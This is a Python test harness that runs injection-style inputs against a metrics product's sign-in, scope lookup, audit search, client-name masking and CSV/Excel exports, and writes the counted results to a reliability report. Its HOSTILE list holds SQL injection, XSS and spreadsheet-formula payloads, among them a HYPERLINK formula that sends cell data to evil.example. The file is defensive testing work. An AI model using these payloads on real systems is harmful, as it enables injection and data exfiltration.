"""Hostile inputs against the product's entry points, counted into a reliability table.

`python -m tests.reliability [--db URL]` prints the markdown table; the test suite runs the same
code on DuckDB and PostgreSQL, asserts that every count of crashes, rows lost and leaks is zero,
and writes the table to `docs/reliability.md`, so the figures there come from a run, never from
a keyboard.

Per check:
- *tried*: hostile inputs fed in;
- *refused*: inputs the product turned down with a clear message (e.g. a control character in
  a username) - the expected outcome for some inputs, not a fault;
- *crashes*: any other exception;
- *rows lost*: a value that did not come back exactly as stored, or a row that went missing;
- *leaks*: a row or value shown that the input should not have reached (another user's events,
  a scope widened by a forged name, a formula a spreadsheet would run, clear text when masked).
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
from sqlalchemy import Engine, delete, insert

from data import accounts, audit
from data.schema import Assignment, AumMonthly, Client, User
from data.settings import load_settings
from metrics.core.access import UnknownUserError, scope_for_username
from metrics.core.masking import mask_frame, mask_name
from metrics.core.periods import Period
from metrics.core.scope import Scope

HOSTILE: tuple[str, ...] = (
    "' OR 1=1 --",
    "O'Donnell",
    "%",
    "_",
    "100%_off",
    "P%",
    '"; DROP TABLE users; --',
    "Robert'); DELETE FROM audit_log; --",
    "<img src=x onerror=alert(1)>",
    "<script>alert('x')</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\\",
    "李'\"<>&",
    "\u202etxt.exe",
    "x" * 80,
)
PASSWORD = "hostile-input test password"
PERIOD = Period.parse("2025Q3")
DAY = dt.date(2025, 9, 30)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Line:
    check: str
    tried: int = 0
    refused: int = 0
    crashes: int = 0
    lost: int = 0
    leaks: int = 0
    notes: list[str] = field(default_factory=list)

    def note(self, kind: str, value: str, detail: str) -> None:
        self.notes.append(f"{kind}: {value!r}: {detail}")


@contextmanager
def guarded(line: Line, value: str) -> Iterator[None]:
    line.tried += 1
    try:
        yield
    except accounts.AccountError as exc:
        line.refused += 1
        line.notes.append(f"refused: {value!r}: {exc}")
    except Exception as exc:  # noqa: BLE001 - counting crashes is the point
        line.crashes += 1
        line.note("crash", value, f"{type(exc).__name__}: {exc}")


def check_forged_users(engine: Engine) -> Line:
    """`--as` / sign-in with a name no account has: refused, never a scope."""
    line = Line("forged usernames (`--as`, scope lookup, sign-in)")
    for value in HOSTILE:
        with guarded(line, value):
            with engine.connect() as conn:
                try:
                    scope = scope_for_username(conn, value)
                except UnknownUserError:
                    pass
                else:
                    line.leaks += 1
                    line.note("leak", value, f"resolved to {scope.cache_key()}")
            with engine.begin() as conn:
                result = accounts.authenticate(conn, value, PASSWORD)
            if result.ok:
                line.leaks += 1
                line.note("leak", value, "signed in")
    return line


def check_usernames(engine: Engine) -> Line:
    """Accounts named with the hostile text: stored, signed in, audited, searched unchanged."""
    line = Line("usernames (create, sign in, audit search)")
    created: list[str] = []
    for value in HOSTILE:
        with guarded(line, value):
            with engine.begin() as conn:
                accounts.create_user(
                    conn, value, "planner", staff_id="P1", password=PASSWORD, display_name=value
                )
            created.append(value)
            with engine.begin() as conn:
                # An hour on: the forged-name check's failures under this name are past.
                later = dt.datetime.now() + dt.timedelta(hours=1)
                result = accounts.authenticate(conn, value, PASSWORD, now=later)
            with engine.connect() as conn:
                account = accounts.find_account(conn, value)
                scope = scope_for_username(conn, value)
                events = audit.search(conn, username=value)
            if not result.ok or account is None or account.username != value:
                line.lost += 1
                line.note("lost", value, "the account did not come back unchanged")
            elif account.display_name != value:
                line.lost += 1
                line.note("lost", value, f"display name came back as {account.display_name!r}")
            if scope != Scope.staff("P1"):
                line.leaks += 1
                line.note("leak", value, f"scope {scope.cache_key()}")
            if events.empty:
                line.lost += 1
                line.note("lost", value, "no audit events found for it")
            elif set(events["username"]) != {value}:
                line.leaks += 1
                line.note("leak", value, f"audit search matched {set(events['username'])}")
    with engine.connect() as conn:
        listed = list(accounts.list_accounts(conn)["username"])
    for value in created:
        if listed.count(value) != 1:
            line.lost += 1
            line.note("lost", value, "not listed exactly once")
    with engine.begin() as conn:
        conn.execute(delete(User).where(User.username.in_(created)))
    return line


def check_filters(engine: Engine) -> Line:
    """Entity ids and audit filters typed in by hand: exact matches, nothing widened."""
    from metrics.measures.browse import narrow
    from metrics.measures.tables import drill

    line = Line("filters and drill-through ids")
    with engine.begin() as conn:
        audit.record(conn, "auditor", audit.EXPORT, "probe")
    for value in HOSTILE:
        with guarded(line, value):
            with engine.connect() as conn:
                settings = load_settings(conn)
                for scope in (Scope.everything(), Scope.org("SB1"), Scope.staff("P1")):
                    for metric in ("aum_stock", "contacts", "retention_rate"):
                        rows = drill(conn, metric, "staff", value, PERIOD, scope, settings)
                        if not rows.empty:
                            line.leaks += 1
                            line.note("leak", value, f"drill {metric} gave {len(rows)} rows")
                    if narrow(conn, scope, "staff", value) is not None:
                        line.leaks += 1
                        line.note("leak", value, "narrowed to a scope")
                for column in ("username", "action"):
                    # The earlier checks left events under these usernames: each must be the
                    # exact name's own (a `%` must not match everyone's).
                    found = audit.search(conn, **{column: value})
                    others = set(found[column]) - {value}
                    if others:
                        line.leaks += 1
                        line.note("leak", value, f"audit {column} filter matched {others}")
                probe = audit.search(conn, username="auditor")
                if list(probe["target"]) != ["probe"]:
                    line.lost += 1
                    line.note("lost", value, "the probe event went missing")
    return line


def check_client_names(engine: Engine) -> Line:
    """Clients named with the hostile text: stored, shown in the book unchanged to a scope that
    may unmask; masked (by the metrics layer itself) for one that may not; masked text never
    carries the clear name (so no markup can reach a page)."""
    from metrics.measures.browse import client_book

    line = Line("client names (store, client book, masking)")
    ids = {value: f"ZH{i:03d}" for i, value in enumerate(HOSTILE)}
    with engine.begin() as conn:
        for value, client_id in ids.items():
            conn.execute(
                insert(Client).values(
                    client_id=client_id,
                    name=value,
                    phone="13812341234",
                    birth_date=dt.date(1980, 5, 6),
                    opened_on=dt.date(2024, 1, 1),
                    contact_cycle="quarterly",
                )
            )
            conn.execute(
                insert(Assignment).values(
                    client_id=client_id, staff_id="P1", role="primary", start_on=dt.date(2024, 1, 1)
                )
            )
            conn.execute(
                insert(AumMonthly).values(
                    client_id=client_id, month=dt.date(2025, 9, 1), avg_daily_aum=1000
                )
            )
    with engine.connect() as conn:
        settings = load_settings(conn)
        book = client_book(conn, "P1", DAY, Scope.staff("P1", unmask=True), settings)
        default = client_book(conn, "P1", DAY, Scope.staff("P1"), settings)
        outside = client_book(conn, "P1", DAY, Scope.org("SB2", unmask=True), settings)
    by_id = dict(zip(book["client_id"], book["client_name"], strict=True))
    masked = mask_frame(book)
    masked_by_id = dict(zip(masked["client_id"], masked["client_name"], strict=True))
    # Masking fails closed: a scope that may not unmask gets the masked names from the layer.
    default_by_id = dict(zip(default["client_id"], default["client_name"], strict=True))
    for value, client_id in ids.items():
        with guarded(line, value):
            if by_id.get(client_id) != value:
                line.lost += 1
                line.note("lost", value, f"came back as {by_id.get(client_id)!r}")
            shown = masked_by_id.get(client_id)
            if shown != mask_name(value) or (len(value) > 1 and value in str(shown)):
                line.leaks += 1
                line.note("leak", value, f"masked as {shown!r}")
            if default_by_id.get(client_id) != shown:
                line.leaks += 1
                line.note("leak", value, "a scope without the right to unmask saw it unmasked")
            if "<" in value and "<" in str(shown)[1:]:
                line.leaks += 1
                line.note("leak", value, "markup survived masking")
    if not outside.empty:
        line.leaks += len(outside)
        line.notes.append(f"leak: the book of P1 seen from SB2 had {len(outside)} rows")
    return line


def check_exports(engine: Engine) -> Line:
    """Staff names in CSV and Excel packs: formulas stay text, and masking (which is for client
    data) leaves them as they are."""
    import openpyxl
    from openpyxl.utils.escape import unescape

    from metrics.exports.documents import from_frame
    from metrics.exports.formats import export
    from metrics.measures.tables import scorecard

    line = Line("exports (CSV, Excel): formula payloads, masking")
    with engine.connect() as conn:
        template = scorecard(conn, PERIOD, "staff", Scope.everything()).iloc[[0]]
    frame = pd.concat([template] * len(HOSTILE), ignore_index=True)
    frame["entity_id"] = [f"X{i:03d}" for i in range(len(HOSTILE))]
    frame["name"] = list(HOSTILE)
    source = from_frame("scorecard", frame, str(PERIOD), Scope.everything())
    unmasked = Scope.everything(unmask=True)
    try:
        clear_csv = _csv_column(export(source, "csv", "tester", unmasked), "name")
        masked_csv = _csv_column(export(source, "csv", "tester", Scope.everything()), "name")
        workbook = openpyxl.load_workbook(io.BytesIO(export(source, "xlsx", "tester", unmasked)))
    except Exception as exc:  # noqa: BLE001 - one crash for the whole export
        line.tried, line.crashes = len(HOSTILE), 1
        line.note("crash", "(all)", f"{type(exc).__name__}: {exc}")
        return line
    sheet = workbook.worksheets[1]
    header = [cell.value for cell in sheet[1]]
    name_col = next(i for i, h in enumerate(header) if h and ("姓名" in h or "name" in h)) + 1
    cells = {
        sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=name_col)
        for r in range(2, sheet.max_row + 1)
    }
    for i, value in enumerate(HOSTILE):
        with guarded(line, value):
            text = clear_csv[i]
            if text.startswith(FORMULA_START):
                line.leaks += 1
                line.note("leak", value, f"CSV cell {text!r} is a formula")
            if text.removeprefix("'") != value and text != value:
                line.lost += 1
                line.note("lost", value, f"CSV cell {text!r}")
            if masked_csv[i] != text:
                # Staff names are not client personal data: a masked pack shows them as they are.
                line.lost += 1
                line.note("lost", value, f"staff name altered in a masked CSV: {masked_csv[i]!r}")
            cell = cells.get(f"X{i:03d}")
            if cell is None or cell.data_type != "s":
                line.leaks += 1
                line.note("leak", value, f"Excel cell type {getattr(cell, 'data_type', None)}")
            elif unescape(str(cell.value)) != value:
                # OOXML stores control characters as _xHHHH_ escapes (a CR as _x000D_).
                line.lost += 1
                line.note("lost", value, f"Excel cell {cell.value!r}")
    return line


def _csv_column(data: bytes, column: str) -> list[str]:
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    return [row[column] for row in rows]


CHECKS: tuple[Callable[[Engine], Line], ...] = (
    check_forged_users,
    check_usernames,
    check_filters,
    check_client_names,
    check_exports,
)


@contextmanager
def cheap_hashing() -> Iterator[None]:
    """Argon2 at its cheapest for these runs: its cost is tested in test_accounts.py, and here
    a hundred sign-ins at the production cost would take most of a minute."""
    from argon2 import PasswordHasher

    saved = accounts.HASHER, accounts._DUMMY_HASH
    accounts.HASHER = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
    accounts._DUMMY_HASH = accounts.HASHER.hash("dummy")
    try:
        yield
    finally:
        accounts.HASHER, accounts._DUMMY_HASH = saved


def run(engine: Engine) -> list[Line]:
    """Every check on `engine`, which must hold the golden data set (tests/golden_data.py)."""
    with cheap_hashing():
        return [check(engine) for check in CHECKS]


def markdown(results: dict[str, list[Line]]) -> str:
    """One table, one row per check and backend, plus a total row."""
    out = [
        "| check | database | inputs tried | refused | crashes | rows lost | leaks |",
        "| --- | --- | ---: | ---: | ---: | ---: | ---: |",
    ]
    totals = [0, 0, 0, 0, 0]
    for backend, lines in results.items():
        for line in lines:
            figures = [line.tried, line.refused, line.crashes, line.lost, line.leaks]
            totals = [a + b for a, b in zip(totals, figures, strict=True)]
            out.append(f"| {line.check} | {backend} | " + " | ".join(map(str, figures)) + " |")
    out.append("| **total** | | " + " | ".join(f"**{n}**" for n in totals) + " |")
    return "\n".join(out) + "\n"


def document(results: dict[str, list[Line]]) -> str:
    inputs = ", ".join(f"`{v!r}`" for v in HOSTILE[:12])
    return (
        "# Reliability under hostile inputs\n\n"
        "Written by `tests/test_hostile_inputs.py` on every test run (do not edit by hand): "
        f"{len(HOSTILE)} hostile inputs - SQL metacharacters, wildcards, markup, spreadsheet "
        "formulas, control and bidirectional characters, an over-long value - fed to the "
        "sign-in, the `--as` scope lookup, account and audit searches, drill-through, the "
        "planner's client book with masking, and the CSV / Excel exports.\n\n"
        + markdown(results)
        + "\n*Refused* inputs were turned down with a message (e.g. control characters in a "
        "username), as designed. The first inputs: "
        + inputs
        + " ... (see `tests/reliability.py`).\n"
    )


# The document's sections, each written by its own test, in this order.
SECTIONS = ("inputs", "files", "cases", "load")
REPORT = Path(__file__).resolve().parent.parent / "docs" / "reliability.md"


# --- issue 14, case by case: one line per test and database, written by the test that passed ---

CASES_INTRO = (
    "## Issue 14, case by case\n\n"
    "Each line is written by the test named, when it passes (`tests.reliability.record_case`), "
    "so a line's figures are those of its last passing run; do not edit by hand. *tried*: "
    "hostile inputs, attempts or rows fed in; *refused*: turned down with a one-line reason, "
    "as designed; *crashes*: a traceback, a raw database error or a hang; *rows lost*: rows "
    "neither stored, counted nor quarantined. *Peak MiB*: the resident peak of the test's "
    "own process during the test (its high-water mark is reset as each test starts; a case "
    "that runs the product in a child process gives the child's peak, said in its note).\n\n"
)
CASES_HEADER = (
    "| item | case | database | tried | refused | crashes | rows lost | peak MiB | test |\n"
    "| --- | --- | --- | ---: | ---: | ---: | ---: | ---: | --- |\n"
)


def reset_peak() -> None:
    """Reset this process's peak resident memory (VmHWM), as a test starts (Linux 4.0+)."""
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        pass  # not Linux, or not allowed: the peak is then the process's since it started


def peak_mib() -> float:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return float("nan")


def record_case(
    item: str,
    case: str,
    database: str,
    *,
    tried: int,
    refused: int = 0,
    crashes: int = 0,
    lost: int = 0,
    peak: float | None = None,
    test: str = "",
    path: Path = REPORT,
) -> None:
    """Write (or replace) the line of `case` on `database` in the document's "cases" section.
    Called at the end of a test, after its assertions: a failed run writes nothing."""
    database = {"duckdb": "DuckDB", "postgresql": "PostgreSQL"}.get(database, database)
    figures = [tried, refused, crashes, lost, round(peak if peak is not None else peak_mib())]
    cells = [item, case.replace("|", "/"), database, *map(str, figures), test]
    lines: dict[tuple[str, str, str], str] = {}
    text = path.read_text(encoding="utf-8") if path.exists() else ""
    begin = "<!-- begin cases -->\n"
    if begin in text:
        body = text.split(begin, 1)[1].split("<!-- end cases -->", 1)[0]
        for row in body.splitlines():
            parts = [c.strip() for c in row.strip().strip("|").split(" | ")]
            if row.startswith("| ") and len(parts) == 9 and parts[0][:1].isdigit():
                lines[(parts[0], parts[1], parts[2])] = row
    lines[(cells[0], cells[1], cells[2])] = "| " + " | ".join(cells) + " |"

    def order(key: tuple[str, str, str]) -> tuple[int, str, str]:
        return int(key[0].split(".")[0]), key[1], key[2]

    rows = "".join(lines[k] + "\n" for k in sorted(lines, key=order))
    write_section(path, "cases", CASES_INTRO + CASES_HEADER + rows)


def write_section(path: Path, name: str, body: str) -> None:
    """Replace section `name` of the document at `path` (kept between comment markers), leaving
    the sections other tests wrote as they are."""
    found: dict[str, str] = {}
    if path.exists():
        text = path.read_text(encoding="utf-8")
        for section in SECTIONS:
            begin, end = f"<!-- begin {section} -->\n", f"<!-- end {section} -->\n"
            if begin in text and end in text:
                found[section] = text.split(begin, 1)[1].split(end, 1)[0]
        if not found and text.strip():
            found["inputs"] = text  # the document before it had sections
    found[name] = body if body.endswith("\n") else body + "\n"
    parts = [f"<!-- begin {s} -->\n{found[s]}<!-- end {s} -->\n" for s in SECTIONS if s in found]
    path.parent.mkdir(exist_ok=True)
    path.write_text("\n".join(parts), encoding="utf-8")


def main(argv: list[str] | None = None) -> int:
    from data.db import upgrade
    from data.engine import make_engine
    from tests.golden_data import insert_golden

    parser = argparse.ArgumentParser(prog="python -m tests.reliability")
    parser.add_argument("--db", help="an empty database URL (default: a temporary DuckDB file)")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory() as folder:
        engine = make_engine(args.db or f"duckdb:///{Path(folder) / 'reliability.duckdb'}")
        upgrade(engine)
        with engine.begin() as conn:
            insert_golden(conn)
        lines = run(engine)
        engine.dispose()
    print(markdown({engine.dialect.name: lines}), end="")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())


# --- issue 14, item 9: many users at once (written by the bench, not by a test) ---------------

LOAD_INTRO = (
    "## Many users at once (item 9)\n\n"
    "Written by `python -m tests.bench.bench_load ... --record` (a command, not a test: its "
    "times depend on the machine): signed-in Chromium sessions browsing Overview, Scorecards, "
    "Planner and Supervision in turn against `python -m ui.serve` on the `branch` data set "
    "(with the figures a nightly import prepares stored first), idle or while `python -m data "
    "load` of the same folder runs. A page is over when the server has finished its run (its "
    "WebSocket says so) and the browser shows it. *Served*: pages rendered "
    "with their figures; *notices*: pages that said an import is in progress instead (DuckDB: "
    "one process holds the file); *errors*: an exception, an error box, a busy warning or a "
    "page not over within 120 s. The load average is the machine's (2 cores), which other "
    "work shared: read the times with it.\n\n"
)
LOAD_HEADER = (
    "| database | import | sessions x minutes | served | notices | errors | p50 s | p95 s "
    "| server peak MiB | import | load average | measured |\n"
    "| --- | --- | --- | ---: | ---: | ---: | ---: | ---: | ---: | --- | --- | --- |\n"
)


def record_load(cells: list[str], path: Path = REPORT) -> None:
    """Write (or replace) one bench line, keyed by its first three cells."""
    text = path.read_text(encoding="utf-8") if path.exists() else ""
    lines: dict[tuple[str, ...], str] = {}
    begin = "<!-- begin load -->\n"
    if begin in text:
        body = text.split(begin, 1)[1].split("<!-- end load -->", 1)[0]
        for row in body.splitlines():
            parts = [c.strip() for c in row.strip().strip("|").split(" | ")]
            if row.startswith("| ") and len(parts) == len(cells) and parts[0] != "database":
                if not parts[0].startswith("---"):
                    lines[tuple(parts[:3])] = row
    lines[tuple(cells[:3])] = "| " + " | ".join(cells) + " |"
    rows = "".join(lines[k] + "\n" for k in sorted(lines))
    write_section(path, "load", LOAD_INTRO + LOAD_HEADER + rows)
